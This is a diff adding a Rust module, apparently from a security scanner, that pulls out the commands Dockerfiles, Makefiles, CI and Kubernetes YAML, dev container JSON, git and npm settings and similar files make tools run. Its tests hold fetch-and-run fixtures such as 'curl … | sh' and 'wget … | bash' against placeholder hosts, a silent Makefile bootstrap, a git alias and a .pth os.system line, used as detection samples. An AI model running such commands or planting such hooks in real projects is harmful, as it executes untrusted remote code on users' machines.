@@ -1,0 +1,544 @@
+//! What configuration files make other tools run, as shell text with every command on
+//! the line where it stands (the other lines left blank), so that findings keep their
+//! line numbers: a Dockerfile's `RUN`, a Makefile's or justfile's recipes, the `run:`
+//! and `command:` of CI and Kubernetes YAML, a dev container's and a VS Code task's
+//! commands, git's filters, aliases and `fsmonitor`, npm's `node-options` and a
+//! Procfile's processes.
+//!
+//! Each reader is line-based and forgiving: these files are read for what they would
+//! run, not validated, and a line it cannot place is left out rather than guessed.
+
+/// The commands a configuration file named `name` (lower case, no folder) makes a tool
+/// run, as shell; `None` when the file is not one of these kinds.
+pub fn commands(name: &str, text: &str) -> Option<String> {
+    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
+    if name == "dockerfile"
+        || name.ends_with(".dockerfile")
+        || name.starts_with("dockerfile.")
+        || name == "containerfile"
+    {
+        return Some(dockerfile_shell(text));
+    }
+    if name == "justfile" || name == ".justfile" || ext == "just" {
+        return Some(recipe_shell(text, None));
+    }
+    if matches!(ext, "yml" | "yaml") {
+        return Some(yaml_commands(text));
+    }
+    // JSON only by name: any JSON may hold a `command` key (an eval's fixtures, a
+    // tool's schema), but these files are run by the tool that reads them.
+    if matches!(
+        name,
+        "devcontainer.json" | ".devcontainer.json" | "tasks.json" | "launch.json" | "settings.json" | "hooks.json"
+    ) || ext == "code-workspace"
+    {
+        return Some(json_commands(text));
+    }
+    if name == ".gitconfig" || name == "gitconfig" || ext == "gitconfig" || name == ".gitmodules" {
+        return Some(gitconfig_commands(text));
+    }
+    if name == ".npmrc" || name == "npmrc" || name == ".yarnrc" || name == ".yarnrc.yml" {
+        return Some(npmrc_commands(text));
+    }
+    if name == "procfile" || name.starts_with("procfile.") {
+        return Some(procfile_commands(text));
+    }
+    if matches!(name, "tox.ini" | "setup.cfg") {
+        return Some(ini_commands(text));
+    }
+    None
+}
+
+/// Keys whose value a tool runs as a command, in YAML and JSON configuration: CI
+/// steps (`run`, `script`), Kubernetes and Compose (`command`, `args`, `entrypoint`),
+/// task runners (`cmds`, `exec`), pre-commit (`entry`), dev containers and VS Code.
+const COMMAND_KEYS: [&str; 20] = [
+    "run",
+    "command",
+    "commands",
+    "cmd",
+    "cmds",
+    "args",
+    "entrypoint",
+    "entry",
+    "exec",
+    "script",
+    "before_script",
+    "after_script",
+    "before_install",
+    "postcreatecommand",
+    "poststartcommand",
+    "postattachcommand",
+    "oncreatecommand",
+    "updatecontentcommand",
+    "initializecommand",
+    "shellcommand",
+];
+
+fn is_command_key(key: &str) -> bool {
+    let key = key.trim().trim_matches(['"', '\'']).to_ascii_lowercase();
+    COMMAND_KEYS.contains(&key.as_str())
+}
+
+/// A YAML scalar without its quotes (double-quoted escapes `\"` and `\\` undone).
+fn unquote(value: &str) -> String {
+    let v = value.trim();
+    if v.len() >= 2 && v.starts_with('"') && v.ends_with('"') {
+        return v[1..v.len() - 1].replace("\\\"", "\"").replace("\\\\", "\\");
+    }
+    if v.len() >= 2 && v.starts_with('\'') && v.ends_with('\'') {
+        return v[1..v.len() - 1].replace("''", "'");
+    }
+    v.to_string()
+}
+
+/// The items of a one-line list (`["sh", "-c", "curl … | sh"]`) as one command line,
+/// an item with spaces quoted so that `sh -c` keeps its script whole.
+fn flow_list(list: &str) -> String {
+    let inner = list.trim().trim_start_matches('[').trim_end_matches(']');
+    let mut items = Vec::new();
+    let mut current = String::new();
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+    for c in inner.chars() {
+        match quote {
+            Some(q) => {
+                if escaped {
+                    current.push(c);
+                    escaped = false;
+                } else if c == '\\' && q == '"' {
+                    escaped = true;
+                } else if c == q {
+                    quote = None;
+                } else {
+                    current.push(c);
+                }
+            }
+            None if c == '"' || c == '\'' => quote = Some(c),
+            None if c == ',' => items.push(std::mem::take(&mut current)),
+            None => current.push(c),
+        }
+    }
+    items.push(current);
+    items
+        .iter()
+        .map(|i| i.trim())
+        .filter(|i| !i.is_empty())
+        .map(shell_word)
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn shell_word(item: &str) -> String {
+    if item.contains(char::is_whitespace) && !item.contains('\'') {
+        format!("'{item}'")
+    } else {
+        item.to_string()
+    }
+}
+
+/// `command` indented to where `value` (a slice of `line`) stands, past its opening
+/// quote, so that a finding's column points into the file.
+fn at_column(line: &str, value: &str, command: String) -> String {
+    let start = (value.as_ptr() as usize)
+        .saturating_sub(line.as_ptr() as usize)
+        .min(line.len());
+    let quote = usize::from(value.starts_with(['"', '\'', '[']));
+    format!("{}{command}", " ".repeat(start + quote))
+}
+
+fn indent_of(line: &str) -> usize {
+    line.len() - line.trim_start_matches([' ', '\t']).len()
+}
+
+/// `run:`, `command:`, `args:` and their kin in YAML: an inline scalar, a one-line
+/// list, a block scalar (`|`, `>`) or a block list, each command on its own line.
+fn yaml_commands(text: &str) -> String {
+    let lines: Vec<&str> = text.lines().collect();
+    let mut out: Vec<String> = vec![String::new(); lines.len()];
+    let mut i = 0;
+    while i < lines.len() {
+        let line = lines[i];
+        let mut body = line.trim_start();
+        // A key may follow a list dash (`- run: …`).
+        while let Some(rest) = body.strip_prefix("- ") {
+            body = rest.trim_start();
+        }
+        let Some((key, value)) = body.split_once(':') else {
+            i += 1;
+            continue;
+        };
+        if !is_command_key(key) || key.contains(' ') && !key.starts_with(['"', '\'']) {
+            i += 1;
+            continue;
+        }
+        let key_indent = indent_of(line);
+        let value = value.trim();
+        let value = value.split(" #").next().unwrap_or(value).trim_end();
+        if value.starts_with('[') {
+            out[i] = at_column(line, value, flow_list(value));
+            i += 1;
+            continue;
+        }
+        if !value.is_empty() && !value.starts_with(['|', '>']) {
+            out[i] = at_column(line, value, unquote(value));
+            i += 1;
+            continue;
+        }
+        // A block below the key: a block scalar's lines, or a list's items.
+        let block_scalar = value.starts_with(['|', '>']);
+        i += 1;
+        while i < lines.len() {
+            let l = lines[i];
+            if l.trim().is_empty() {
+                i += 1;
+                continue;
+            }
+            let more = indent_of(l) > key_indent
+                || !block_scalar && indent_of(l) == key_indent && l.trim_start().starts_with("- ");
+            if !more {
+                break;
+            }
+            let t = l.trim_start();
+            out[i] = if block_scalar {
+                l.to_string()
+            } else if let Some(item) = t.strip_prefix("- ") {
+                // A list item that is itself a mapping (`- name: x`) is not a command.
+                if item
+                    .split_once(':')
+                    .is_some_and(|(k, v)| !k.contains(' ') && (v.is_empty() || v.starts_with(' ')))
+                    && !item.starts_with(['"', '\''])
+                {
+                    String::new()
+                } else {
+                    unquote(item)
+                }
+            } else {
+                String::new()
+            };
+            i += 1;
+        }
+    }
+    out.join("\n")
+}
+
+/// JSON configuration (dev containers, VS Code tasks and launch files, workspace
+/// settings): `"command": "…"`, `"postCreateCommand": […]`, `"args": […]` on one line.
+fn json_commands(text: &str) -> String {
+    text.lines()
+        .map(|line| {
+            let t = line.trim_start();
+            let Some(rest) = t.strip_prefix('"') else {
+                return String::new();
+            };
+            let Some((key, value)) = rest.split_once("\":") else {
+                return String::new();
+            };
+            if !is_command_key(key) {
+                return String::new();
+            }
+            let value = value.trim().trim_end_matches(',').trim();
+            if value.starts_with('[') {
+                at_column(line, value, flow_list(value))
+            } else if value.starts_with('"') {
+                at_column(line, value, json_string(value))
+            } else {
+                String::new()
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// A JSON string literal's text, escapes undone (`\u` escapes included).
+fn json_string(value: &str) -> String {
+    match serde_json::from_str::<String>(value) {
+        Ok(s) => s,
+        Err(_) => value.trim_matches('"').to_string(),
+    }
+}
+
+/// git configuration: filters (`clean`, `smudge`, `process`), `core.fsmonitor`,
+/// `core.sshCommand`, `core.pager`, `core.editor`, `diff.*.textconv`, credential
+/// helpers and `!` aliases: each runs when git does.
+fn gitconfig_commands(text: &str) -> String {
+    text.lines()
+        .map(|line| {
+            let t = line.trim();
+            let Some((key, value)) = t.split_once('=') else {
+                return String::new();
+            };
+            let key = key.trim().to_ascii_lowercase();
+            let value = unquote(value.trim());
+            if let Some(shell) = value.strip_prefix('!') {
+                return shell.to_string();
+            }
+            let runs = matches!(
+                key.as_str(),
+                "clean"
+                    | "smudge"
+                    | "process"
+                    | "fsmonitor"
+                    | "sshcommand"
+                    | "pager"
+                    | "editor"
+                    | "textconv"
+                    | "helper"
+            );
+            // `fsmonitor = true` switches the built-in monitor on; it runs nothing.
+            if runs && !matches!(value.as_str(), "true" | "false" | "") {
+                value
+            } else {
+                String::new()
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// npm and yarn settings that make every `node` load code (`node-options=--require`)
+/// or pick the shell scripts run with.
+fn npmrc_commands(text: &str) -> String {
+    text.lines()
+        .map(|line| {
+            let Some((key, value)) = line.split_once(['=', ':']) else {
+                return String::new();
+            };
+            let value = unquote(value.trim());
+            match key.trim().to_ascii_lowercase().as_str() {
+                "node-options" | "nodeoptions" => format!("node {value}"),
+                "script-shell" | "onload-script" | "shell" => value,
+                _ => String::new(),
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// A Procfile's `name: command` lines.
+fn procfile_commands(text: &str) -> String {
+    text.lines()
+        .map(|line| match line.split_once(':') {
+            Some((name, command))
+                if !name.is_empty()
+                    && name
+                        .bytes()
+                        .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-') =>
+            {
+                command.trim().to_string()
+            }
+            _ => String::new(),
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// tox and setup.cfg `commands =` (and `commands_pre`, `commands_post`) with their
+/// indented continuation lines.
+fn ini_commands(text: &str) -> String {
+    let mut in_commands = false;
+    text.lines()
+        .map(|line| {
+            if line.starts_with([' ', '\t']) && in_commands {
+                return line.trim().to_string();
+            }
+            in_commands = false;
+            let Some((key, value)) = line.split_once('=') else {
+                return String::new();
+            };
+            if key.trim().to_ascii_lowercase().starts_with("commands") {
+                in_commands = true;
+                value.trim().to_string()
+            } else {
+                String::new()
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// The lines of a `.pth` file that Python runs at every start (those that begin with
+/// `import`), the others left blank.
+pub fn pth_code(text: &str) -> String {
+    text.lines()
+        .map(|l| {
+            if l.starts_with("import ") || l.starts_with("import\t") {
+                l
+            } else {
+                ""
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// A justfile's (or, with `variables`, a Makefile's) recipe lines: every indented line
+/// below a recipe header, its `@` and `-` prefixes dropped.
+fn recipe_shell(text: &str, variables: Option<&[(String, String)]>) -> String {
+    let mut out = String::with_capacity(text.len());
+    for line in text.lines() {
+        let recipe = match variables {
+            Some(_) => line.strip_prefix('\t'),
+            None => line.starts_with([' ', '\t']).then(|| line.trim_start()),
+        };
+        if let Some(recipe) = recipe {
+            let recipe = recipe.trim_start_matches(['@', '-', '+', ' ']);
+            match variables {
+                Some(variables) => out.push_str(&expand_make(recipe, variables, 0)),
+                None => out.push_str(recipe),
+            }
+        }
+        out.push('\n');
+    }
+    out
+}
+
+/// A Dockerfile's `RUN` commands as one shell script, each on its own lines (the
+/// other lines left blank, so lines keep their numbers).
+pub fn dockerfile_shell(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut continuing = false;
+    for line in text.lines() {
+        let trimmed = line.trim_start();
+        let command = if continuing {
+            Some(line)
+        } else {
+            trimmed
+                .get(..4)
+                .filter(|head| head.eq_ignore_ascii_case("RUN "))
+                .map(|_| &trimmed[4..])
+                .filter(|rest| !rest.trim_start().starts_with('['))
+        };
+        match command {
+            Some(command) => {
+                out.push_str(command);
+                continuing = command.trim_end().ends_with('\\');
+            }
+            None => continuing = false,
+        }
+        out.push('\n');
+    }
+    out
+}
+
+/// A Makefile's recipes as the shell runs them, one per line where it stands: `$$`
+/// is `$`, `$(VAR)` is the variable's value (from this file and the files it includes,
+/// as `variables` gives them), and a recipe's `@`, `-` and `+` prefixes are dropped.
+pub fn makefile_shell(text: &str, variables: &[(String, String)]) -> String {
+    recipe_shell(text, Some(variables))
+}
+
+/// A Makefile's variable assignments (`NAME = v`, `:=`, `?=`, `::=`), in order.
+pub fn make_variables(text: &str, out: &mut Vec<(String, String)>) {
+    for line in text.lines() {
+        if line.starts_with('\t') || line.trim_start().starts_with('#') {
+            continue;
+        }
+        let Some(eq) = line.find('=') else { continue };
+        let name = line[..eq].trim_end_matches([':', '?', '+', '!']).trim();
+        let name = name.strip_prefix("export ").unwrap_or(name).trim();
+        if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
+            out.push((name.to_string(), line[eq + 1..].trim().to_string()));
+        }
+    }
+}
+
+fn expand_make(text: &str, variables: &[(String, String)], depth: usize) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find('$') {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        if let Some(tail) = after.strip_prefix('$') {
+            out.push('$');
+            rest = tail;
+        } else if let Some(close) = after
+            .strip_prefix(['(', '{'])
+            .and_then(|inner| inner.find([')', '}']).map(|c| (inner, c)))
+        {
+            let (inner, c) = close;
+            let name = &inner[..c];
+            match variables.iter().rev().find(|(n, _)| n == name) {
+                Some((_, value)) if depth < 4 => out.push_str(&expand_make(value, variables, depth + 1)),
+                _ => {
+                    out.push_str("${");
+                    out.push_str(name);
+                    out.push('}');
+                }
+            }
+            rest = &inner[c + 1..];
+        } else {
+            out.push('$');
+            rest = after;
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn make_recipes_read_as_the_shell_runs_them() {
+        let makefile = "TOOLS_MIRROR ?= https://tools.example.net/v3\nall: tools\n\ntools:\n\t@sh -c \"$$(curl -fsSL $(TOOLS_MIRROR)/bootstrap)\" >/dev/null 2>&1\n";
+        let mut variables = Vec::new();
+        make_variables(makefile, &mut variables);
+        let shell = makefile_shell(makefile, &variables);
+        assert!(
+            shell.contains("sh -c \"$(curl -fsSL https://tools.example.net/v3/bootstrap)\""),
+            "{shell}"
+        );
+        // Lines stay where they were, so findings keep their line numbers.
+        assert_eq!(shell.lines().count(), makefile.lines().count());
+    }
+
+    #[test]
+    fn ci_and_kubernetes_yaml_give_their_commands_on_their_lines() {
+        let workflow = "jobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -s https://x.example/a.sh | sh\n      - name: many\n        run: |\n          echo one\n          wget -qO- https://x.example/b | bash\n";
+        let shell = commands("ci.yml", workflow).unwrap_or_default();
+        let lines: Vec<&str> = shell.lines().collect();
+        assert_eq!(lines[4], "             curl -s https://x.example/a.sh | sh");
+        assert_eq!(lines[7].trim(), "echo one");
+        assert_eq!(lines[8].trim(), "wget -qO- https://x.example/b | bash");
+        assert_eq!(lines[3], "", "a step that names an action runs no command");
+        let pod = "spec:\n  containers:\n    - name: x\n      command: [\"/bin/sh\", \"-c\"]\n      args:\n        - curl https://x.example/k | sh\n";
+        let shell = commands("pod.yaml", pod).unwrap_or_default();
+        assert!(shell.contains("/bin/sh -c"), "{shell}");
+        assert!(shell.contains("curl https://x.example/k | sh"), "{shell}");
+    }
+
+    #[test]
+    fn dev_container_task_git_and_npm_settings_give_what_they_run() {
+        let devcontainer = "{\n  \"name\": \"dev\",\n  \"postCreateCommand\": \"bash -c \\\"curl x | sh\\\"\",\n}";
+        let shell = commands("devcontainer.json", devcontainer).unwrap_or_default();
+        assert_eq!(
+            shell.lines().nth(2),
+            Some("                        bash -c \"curl x | sh\""),
+            "{shell}"
+        );
+        assert!(
+            commands("scenario.json", devcontainer).is_none(),
+            "any JSON is not a carrier"
+        );
+        let git = "[filter \"lfs\"]\n\tclean = sh .cache/clean.sh %f\n[core]\n\tfsmonitor = true\n[alias]\n\tup = !curl x | sh\n";
+        let shell = commands(".gitconfig", git).unwrap_or_default();
+        assert_eq!(
+            shell.lines().collect::<Vec<_>>(),
+            ["", "sh .cache/clean.sh %f", "", "", "", "curl x | sh"]
+        );
+        assert_eq!(
+            commands(
+                ".npmrc",
+                "registry=https://r.example/\nnode-options=--require ./hook.cjs\n"
+            )
+            .as_deref(),
+            Some("\nnode --require ./hook.cjs")
+        );
+        assert_eq!(
+            pth_code("/opt/lib\nimport os; os.system('x')\n"),
+            "\nimport os; os.system('x')"
+        );
+    }
+}
